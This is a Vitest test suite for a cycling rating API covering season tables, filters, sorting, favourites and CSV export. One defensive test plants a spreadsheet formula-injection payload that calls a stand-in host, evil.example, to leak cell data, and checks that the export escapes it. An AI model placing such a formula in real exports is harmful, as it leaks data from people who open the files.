import { eq, sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { queryRows } from '../../src/db/database.js';
import { participants } from '../../src/db/schema/index.js';
import { currentSeason, ratingPageSchema } from '@velo/contracts';
import { buildActors, bearer, buildAccount, tokenFor } from '../helpers/actors.js';
import { buildOrganizer } from '../helpers/factories.js';
import { buildCluster, buildScoredProtocols, participantIdOf } from '../helpers/scored-protocols.js';
import { useTestApp } from '../helpers/test-app.js';

const rating = (t: ReturnType<ReturnType<typeof useTestApp>>, body: Record<string, unknown>, headers = {}) =>
  t.app.inject({ method: 'POST', url: '/v1/Statistic/paged-rating', payload: body, headers });

describe('rating table', () => {
  const t = useTestApp();

  const season = async () => {
    const app = t();
    const organizer = await buildOrganizer(app.db, { name: 'Кубок' });
    await buildScoredProtocols(app.db, [
      {
        organizerId: organizer.id,
        eventDate: '2025-05-10',
        rows: [
          { rider: 'Орлов Илья 1980 М' },
          { rider: 'Белов Юрий 1983 М' },
          { rider: 'Соколова Анна 1986 Ж' },
          { rider: 'Кузнецов Пётр 1975 М', status: 'DNF' },
        ],
      },
      { eventDate: '2025-06-10', rows: [{ rider: 'Белов Юрий 1983 М' }, { rider: 'Ёлкин Олег 1990 М' }] },
      { eventDate: '2024-06-10', rows: [{ rider: 'Орлов Илья 1980 М' }] },
    ]);
    return organizer;
  };

  it('answers a season from 2018 to the current one, and «не валидный год» outside them', async () => {
    await season();
    const current = currentSeason();
    expect((await rating(t(), { year: current, page: 1, size: 10 })).statusCode).toBe(200);
    expect((await rating(t(), { year: 2018, page: 1, size: 10 })).statusCode).toBe(200);
    for (const year of [2017, current + 1]) {
      const response = await rating(t(), { year, page: 1, size: 10 });
      expect(response.statusCode).toBe(400);
      expect(response.json().Error).toBe('не валидный год');
    }
  });

  it('answers the newest season by default, places over both genders and gender places', async () => {
    await season();
    const response = await rating(t(), {});
    expect(response.statusCode).toBe(200);
    const body = ratingPageSchema.parse(response.json());
    expect(body.year).toBe(2025);
    expect(body.updateDate).not.toBeNull();
    expect(body.participants.totalCount).toBe(5);
    const table = body.participants.items.map((e) => [e.participant.lastName, e.place, e.genderPlace]);
    expect(table[0]).toEqual(['Белов', 1, 1]);
    expect(table.find((row) => row[0] === 'Соколова')![2]).toBe(1);
    // The rider who did not finish is listed with 0 points, last.
    expect(body.participants.items.at(-1)).toMatchObject({
      rating: 0,
      participant: { lastName: 'Кузнецов' },
    });
  });

  it('filters by gender and by a trimmed name in either word order, and pages', async () => {
    await season();
    const women = (await rating(t(), { gender: 'female' })).json();
    expect(
      women.participants.items.map((e: { participant: { lastName: string } }) => e.participant.lastName),
    ).toEqual(['Соколова']);
    const byName = (await rating(t(), { name: '  Илья Орлов ' })).json();
    expect(byName.participants.totalCount).toBe(1);
    const unknownGender = await rating(t(), { gender: 'robot' });
    expect(unknownGender.json().participants.totalCount).toBe(5);
    const page2 = (await rating(t(), { page: 2, size: 2 })).json();
    expect(page2.participants.items).toHaveLength(2);
    expect(page2.participants.items[0].place).toBe(3);
    const empty = (await rating(t(), { year: 2019 })).json();
    expect(empty).toMatchObject({ year: 2019, participants: { items: [], totalCount: 0 }, updateDate: null });
  });

  it('sorts by points both ways and by name', async () => {
    await season();
    const ascending = (await rating(t(), { sort: { fieldName: 'rating', direction: 1 } })).json();
    expect(ascending.participants.items[0].rating).toBe(0);
    const byName = (await rating(t(), { sort: { fieldName: 'lastName', direction: 1 } })).json();
    expect(byName.participants.items[0].participant.lastName).toBe('Белов');
  });

  it('sorts by gender place: within a gender as by place, over both genders the first of each gender first', async () => {
    await season();
    type Entry = { participant: { lastName: string }; place: number; genderPlace: number };
    const names = (body: { participants: { items: Entry[] } }) =>
      body.participants.items.map((e) => e.participant.lastName);
    const byGenderPlace = (gender: string, direction: 1 | -1) =>
      rating(t(), { gender, sort: { fieldName: 'genderPlace', direction } }).then((r) => r.json());
    const men = await byGenderPlace('male', 1);
    expect(names(men)).toEqual(names((await rating(t(), { gender: 'male' })).json()));
    expect(men.participants.items.map((e: Entry) => e.genderPlace)).toEqual([1, 2, 3, 4]);
    expect(names(await byGenderPlace('male', -1))).toEqual([...names(men)].reverse());
    const everyone = (await rating(t(), { sort: { fieldName: 'genderPlace', direction: 1 } })).json();
    expect(everyone.participants.items.slice(0, 2).map((e: Entry) => e.genderPlace)).toEqual([1, 1]);
  });

  it('computes an organizer\u2019s table and a category\u2019s series on demand', async () => {
    const organizer = await season();
    const orgTable = (await rating(t(), { year: 2025, organizerId: organizer.id })).json();
    expect(
      orgTable.participants.items.map((e: { participant: { lastName: string } }) => e.participant.lastName),
    ).toEqual(['Орлов', 'Белов', 'Соколова', 'Кузнецов']);
    const { categories } = await buildCluster(
      t().db,
      organizer.id,
      [{ name: 'М40-49', gender: 'male', minAge: 40, maxAge: 49 }],
      {
        activeFrom: '2025-01-01',
        activeTo: '2025-12-31',
      },
    );
    const series = (await rating(t(), { year: 2025, clusterAgeCategoryId: categories[0]!.id })).json();
    expect(
      series.participants.items.map((e: { participant: { lastName: string } }) => e.participant.lastName),
    ).toEqual(['Орлов', 'Белов']);
  });

  it('computes the other categories of the cluster with the one asked for, each with its own riders', async () => {
    const organizer = await season();
    const { categories } = await buildCluster(
      t().db,
      organizer.id,
      [
        { name: 'М40-49', gender: 'male', minAge: 40, maxAge: 49 },
        { name: 'Ж', gender: 'female', minAge: 0, maxAge: 99 },
        { name: 'М30-39', gender: 'male', minAge: 30, maxAge: 39 },
      ],
      { activeFrom: '2025-01-01', activeTo: '2025-12-31' },
    );
    const lastNames = async (clusterAgeCategoryId: number) =>
      (await rating(t(), { year: 2025, clusterAgeCategoryId }))
        .json()
        .participants.items.map((e: { participant: { lastName: string } }) => e.participant.lastName);
    expect(await lastNames(categories[0]!.id)).toEqual(['Орлов', 'Белов']);
    const sets = await queryRows<{ id: number }>(
      t().db,
      sql`select cluster_age_category_id as id from standings_sets where organizer_id = ${organizer.id} and year = 2025
          order by 1`,
    );
    expect(sets.map((r) => r.id)).toEqual(categories.map((c) => c.id).sort((a, b) => a - b));
    expect(await lastNames(categories[1]!.id)).toEqual(['Соколова']);
    expect(await lastNames(categories[2]!.id)).toEqual([]);
  });

  it('answers readers of one cluster arriving together, each with its category', async () => {
    const organizer = await season();
    const { categories } = await buildCluster(
      t().db,
      organizer.id,
      [
        { name: 'М40-49', gender: 'male', minAge: 40, maxAge: 49 },
        { name: 'Ж', gender: 'female', minAge: 0, maxAge: 99 },
      ],
      { activeFrom: '2025-01-01', activeTo: '2025-12-31' },
    );
    const asked = [0, 1, 0, 1, 1, 0].map((index) => categories[index]!.id);
    const answers = await Promise.all(
      asked.map((clusterAgeCategoryId) => rating(t(), { year: 2025, clusterAgeCategoryId })),
    );
    expect(answers.map((answer) => answer.statusCode)).toEqual(asked.map(() => 200));
    expect(
      answers.map((answer) =>
        answer
          .json()
          .participants.items.map((e: { participant: { lastName: string } }) => e.participant.lastName),
      ),
    ).toEqual(asked.map((id) => (id === categories[0]!.id ? ['Орлов', 'Белов'] : ['Соколова'])));
    // The organizer's own table is computed apart, on its first reader.
    const own = await rating(t(), { year: 2025, organizerId: organizer.id });
    expect(own.json().participants.items).toHaveLength(4);
  });

  it('marks favourites for a signed-in user, none for a guest, and shows only favourites on request', async () => {
    await season();
    const actors = await buildActors(t());
    const orlov = await participantIdOf(t().db, 'Орлов');
    await t().app.inject({
      method: 'PATCH',
      url: `/v1/User/favorites-participant?participantId=${orlov}`,
      headers: actors.headers.participant,
    });
    const signedIn = (await rating(t(), {}, actors.headers.participant)).json();
    const marked = signedIn.participants.items.filter(
      (e: { inCurrentUserFavorites: boolean }) => e.inCurrentUserFavorites,
    );
    expect(marked.map((e: { id: number }) => e.id)).toEqual([orlov]);
    const guest = (await rating(t(), {})).json();
    expect(
      guest.participants.items.every((e: { inCurrentUserFavorites: boolean }) => !e.inCurrentUserFavorites),
    ).toBe(true);
    const brokenToken = await rating(t(), {}, bearer('garbage'));
    expect(brokenToken.statusCode).toBe(200);
    const only = (
      await rating(t(), { getOnlyUserFavoritesParticipants: true }, actors.headers.participant)
    ).json();
    expect(only.participants.totalCount).toBe(1);
    expect((await rating(t(), { getOnlyUserFavoritesParticipants: true })).statusCode).toBe(401);
    const admin = (await rating(t(), {}, actors.headers.admin)).json();
    expect(admin.participants.items.every((e: { showFavoriteIcon: boolean }) => !e.showFavoriteIcon)).toBe(
      true,
    );
  });

  it('hides the star on the user\u2019s own rider', async () => {
    await season();
    const { user } = await buildAccount(t().db);
    const orlov = await participantIdOf(t().db, 'Орлов');
    const { participants } = await import('../../src/db/schema/index.js');
    const { eq } = await import('drizzle-orm');
    await t().db.update(participants).set({ userId: user.id }).where(eq(participants.id, orlov));
    const body = (await rating(t(), {}, bearer(await tokenFor(t(), user.id)))).json();
    const own = body.participants.items.find((e: { id: number }) => e.id === orlov);
    expect(own.showFavoriteIcon).toBe(false);
  });

  it('finds the page a rider stands on', async () => {
    await season();
    const ilkin = await participantIdOf(t().db, 'Ёлкин');
    const page = await t().app.inject({
      method: 'POST',
      url: '/v1/ParticipantRating/participant-rating-page',
      payload: { participantId: ilkin, size: 2 },
    });
    const position = (await rating(t(), { size: 100 }))
      .json()
      .participants.items.findIndex((e: { id: number }) => e.id === ilkin);
    expect(page.json()).toBe(Math.ceil((position + 1) / 2));
    const absent = await t().app.inject({
      method: 'POST',
      url: '/v1/ParticipantRating/participant-rating-page',
      payload: { participantId: ilkin, gender: 'female' },
    });
    expect(absent.json()).toBe(0);
  });

  it('exports the filtered table as CSV that opens in a Russian spreadsheet', async () => {
    await season();
    const response = await t().app.inject({
      method: 'POST',
      url: '/v1/Statistic/rating-csv',
      payload: { gender: 'male' },
    });
    expect(response.headers['content-type']).toContain('text/csv');
    expect(response.headers['content-disposition']).toContain("filename*=UTF-8''");
    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = response.rawPayload.subarray(3).toString('utf8').trim().split('\r\n');
    expect(lines[0]).toBe('Место;Место (М/Ж);Фамилия;Имя;Пол;Год рождения;Город;Клуб;Гонок;Очки');
    expect(lines).toHaveLength(5);
    expect(lines[1]).toMatch(/^1;1;Белов;Юрий;М;1983;Москва;Клуб;2;\d+(,\d+)?$/);
  });

  it('writes a club, a city or a name a spreadsheet would run as a formula as text, and numbers as numbers', async () => {
    await season();
    const club = '=HYPERLINK("http://evil.example/?leak="&A1;"Открыть")';
    await t()
      .db.update(participants)
      .set({ club, city: '+7 (000) 000-00-00' })
      .where(eq(participants.lastName, 'Белов'));
    await t()
      .db.update(participants)
      .set({ firstName: '@SUM(1+1)', city: '\tТверь', club: '-2+3' })
      .where(eq(participants.lastName, 'Орлов'));
    const response = await t().app.inject({
      method: 'POST',
      url: '/v1/Statistic/rating-csv',
      payload: { gender: 'male' },
    });
    const lines = response.rawPayload.subarray(3).toString('utf8').trim().split('\r\n');
    expect(lines[1]).toMatch(
      /^1;1;Белов;Юрий;М;1983;'\+7 \(000\) 000-00-00;"'=HYPERLINK\(""http:\/\/evil\.example\/\?leak=""&A1;""Открыть""\)";2;\d+(,\d+)?$/,
    );
    expect(lines.find((line) => line.includes('Орлов'))).toMatch(
      /^\d+;\d+;Орлов;'@SUM\(1\+1\);М;1980;'\tТверь;'-2\+3;\d+;\d+(,\d+)?$/,
    );
  });

  it('gives the series with counted races under the best-races rule', async () => {
    const organizer = await season();
    const { categories } = await buildCluster(t().db, organizer.id, [
      { name: 'Все', gender: 'all', minAge: 0, maxAge: 99 },
    ]);
    const response = await t().app.inject({
      method: 'POST',
      url: '/v1/Statistic/participants-final-rating',
      payload: { year: 2025, organizerId: organizer.id, clusterAgeCategoryId: categories[0]!.id },
    });
    expect(response.statusCode).toBe(200);
    const body = response.json();
    expect(body.bestRacesRule).toMatchObject({ mode: 'ignore', seriesRaces: 1 });
    expect(body.participants.items[0].results[0]).toMatchObject({ counted: true });
  });
});
